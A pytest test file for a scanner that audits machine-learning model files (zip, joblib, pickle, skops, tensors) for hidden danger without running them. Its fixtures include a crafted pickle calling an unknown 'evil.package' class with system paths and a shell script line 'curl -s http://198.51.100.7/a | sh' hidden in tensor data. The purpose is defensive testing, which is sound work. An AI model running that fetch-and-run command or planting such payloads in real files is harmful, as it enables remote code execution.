"""Members, streams, types and nodes that other tools write are read, and no further than told."""

from __future__ import annotations

import io
import json
import zipfile
import zlib
from dataclasses import replace
from typing import Any

import numpy as np
import pytest
import skops.io
from sklearn.linear_model import SGDClassifier

from auditor.intake.inert import contents, packed, skops_nodes, stowed
from auditor.intake.inert.dtypes import dtype_of
from auditor.intake.inert.log import Budget, Damaged, Log
from auditor.intake.inert.machine import Machine
from auditor.intake.inert.values import Pairs
from auditor.intake.inert.ziplayout import content, layout


@pytest.mark.parametrize("method", [zipfile.ZIP_DEFLATED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_members_of_a_zip_are_unpacked_by_every_common_method(method: int) -> None:
    body, data = io.BytesIO(), bytes(range(256)) * 40
    with zipfile.ZipFile(body, "w", method) as archive:
        archive.writestr("a", data)
    view, budget = memoryview(body.getvalue()), Budget.fresh(5)
    (member,) = layout(view, budget).members
    assert bytes(content(view, member, budget)) == data
    for changed in (replace(member, size=member.size - 1), replace(member, size=member.size + 1)):
        with pytest.raises(Damaged, match=r"its size|cannot be unpacked"):
            content(view, changed, budget)


def test_joblib_of_the_old_kind_is_unpacked_to_the_size_that_it_tells() -> None:
    def old(told: int) -> memoryview:
        return memoryview(b"ZF" + hex(told).ljust(19).encode() + zlib.compress(b"abc"))

    assert packed.kind_of(old(3)) == "joblib"
    assert bytes(packed.unpacked(old(3), "joblib", Budget.fresh(5))[0]) == b"abc"
    with pytest.raises(Damaged, match="tells of 4 bytes"):
        packed.unpacked(old(4), "joblib", Budget.fresh(5))


def test_a_span_of_time_has_a_unit_of_numpy() -> None:
    assert dtype_of("<M8[25us]").size == dtype_of("<m8[D]").size == dtype_of("M8").size == 8
    with pytest.raises(Damaged, match="not known"):
        dtype_of("<M8[evil]")


def test_a_class_that_nobody_knows_is_not_handed_a_path() -> None:
    def said(argument: bytes) -> list[str]:
        log = Log("m.pkl", Budget.fresh(5))
        text = b"X" + len(argument).to_bytes(4, "little") + argument
        Machine(memoryview(b"\x80\x02cevil.package\nThing\n(" + text + b"tR."), log).run()
        return [problem.level for problem in log.shared.problems]

    assert said(b"steps") == said(b"org/name") == said(b"</s>") == ["not_audited"]
    for place in (b"/etc/x", b"~/x", b"sh ../x", b"C:\\x", b"https://x.example", b"\\\\host"):
        assert said(place) == ["not_audited", "danger"]


def _schema(value: Any) -> Any:
    with zipfile.ZipFile(io.BytesIO(skops.io.dumps(value))) as archive:
        return json.loads(archive.read("schema.json"))


def _nodes(part: Any) -> list[dict[str, Any]]:
    inner = part.values() if isinstance(part, dict) else part if isinstance(part, list) else ()
    own = [part] if isinstance(part, dict) and "__loader__" in part else []
    return own + [node for one in inner for node in _nodes(one)]


def test_nodes_of_skops_have_the_form_that_it_writes() -> None:
    value = {
        "generator": np.random.default_rng(1), "masked": np.ma.masked_array([1, 2], [0, 1]),
        "set": {1, 2}, "type": np.dtype("f4"), "none": float("nan"),
        "estimator": SGDClassifier(random_state=np.random.RandomState(1)).fit(np.eye(2), [0, 1]),
    }  # fmt: skip
    schema = _schema(value)
    nodes = _nodes(schema)
    assert len(nodes) > 50
    assert [said for node in nodes for said in skops_nodes.look(node, node is schema)] == []
    for changed in (
        {**schema, "__reduce__": "x"}, {**schema, "_skops_version": "<script>"},
        {"__loader__": "ObjectNode", "content": "x"},
        {"__loader__": "RandomGeneratorNode", "content": {"bit_generator": "system"}},
    ):  # fmt: skip
        assert len([*skops_nodes.look(changed, changed.get("protocol") is not None)]) == 1
    assert [*skops_nodes.look({**schema}, outermost=False)] != []


SCRIPT = (
    "#!/bin/sh\nset -e\ncurl -s http://198.51.100.7/a | sh\necho that was all of it, thank you\n"
    * 4
)


@pytest.mark.parametrize("dtype", ["bfloat16", "complex64", "complex128", "float32"])
def test_letters_as_numbers_of_any_kind_are_a_text(dtype: str) -> None:
    codes = np.frombuffer(SCRIPT.encode(), np.uint8)
    kinds = {"complex64": "<c8", "complex128": "<c16", "float32": "<f4", "bfloat16": "<f4"}
    raw = codes.astype(kinds[dtype])
    data = (raw.view("<u4") >> 16).astype("<u2") if dtype == "bfloat16" else raw
    log = Log("m.pt", Budget.fresh(5))
    stowed.look("w", dtype, data.view(np.uint8), memoryview(data.tobytes()), log)
    assert any("spell" in problem.message for problem in log.shared.problems)


@pytest.mark.parametrize("as_table", [False, True])
def test_lines_of_a_program_in_several_texts_are_named(as_table: bool) -> None:
    lines: list[object] = [*SCRIPT.splitlines()]
    log = Log("m.pt", Budget.fresh(5))
    contents.look(Pairs([*enumerate(lines)]) if as_table else lines, log)
    assert [problem.name for problem in log.shared.problems] == ["lines"]
    quiet = Log("m.pt", Budget.fresh(5))
    contents.look(["cat", "dog", "(", "import", "os.system("], quiet)
    assert quiet.shared.problems == []
